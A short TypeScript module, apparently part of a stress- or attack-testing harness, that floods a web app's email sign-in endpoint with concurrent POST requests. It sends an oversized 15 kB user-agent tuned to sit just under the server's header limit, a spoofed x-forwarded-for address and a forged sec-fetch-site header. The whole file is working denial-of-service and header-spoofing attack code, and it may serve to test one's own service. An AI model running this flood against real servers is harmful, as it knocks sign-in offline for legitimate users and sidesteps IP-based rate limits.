import { flood, post } from './asking.ts'
import type { Attack, AttackFindings } from './attack.ts'

const CONCURRENCY = 12
/** Each repetition looks like the start of a browser name. 15 kB is just below the server's header limit. */
const USER_AGENT = 'Version/1'.repeat(1_666)

export async function attackHeaders({ url, seconds, account }: Attack): Promise<AttackFindings> {
  const { email, password, address, cookies } = account
  const headers = {
    'x-forwarded-for': address,
    'sec-fetch-site': 'same-origin',
    'user-agent': USER_AGENT,
    cookie: cookies.map(([name, value]) => `${name}=${value}`).join('; '),
  }
  const answers = await flood({ seconds, atOnce: CONCURRENCY }, () =>
    post(`${url}/auth/v1/sign-in/email`, headers, { email, password }),
  )
  return { answers, counts: {} }
}
